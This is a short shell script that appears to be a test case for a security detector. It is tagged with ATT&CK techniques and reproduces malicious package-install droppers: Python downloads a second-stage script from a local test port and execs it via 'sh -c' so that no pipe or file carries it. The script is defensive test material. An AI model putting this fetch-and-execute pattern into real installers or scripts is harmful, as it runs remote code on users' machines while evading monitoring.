#!/bin/sh
# technique: T1105 Ingress Tool Transfer; T1059.004 Command and Scripting Interpreter: Unix Shell; T1059.006 Python
# reproduces: setup.py and postinstall droppers that fetch a second stage and hand it to a shell as its -c program from the install process itself, so no pipe, no file and no parent's command line carries it
# expect: download-piped-to-shell ^(da)?sh$
# exec-borne: yes
#
# python downloads the installer and replaces itself (os.execvp) with sh,
# whose program is the downloaded text on its own command line.
set -u

command -v python3 >/dev/null 2>&1 || { echo "python3 not installed" >&2; exit 77; }

python3 - "http://127.0.0.1:${BW_ATTACK_PORT:?}/install.sh" <<'PY'
import os
import sys
import urllib.request

body = urllib.request.urlopen(sys.argv[1], timeout=10).read().decode()
os.execvp("sh", ["sh", "-c", body])
PY
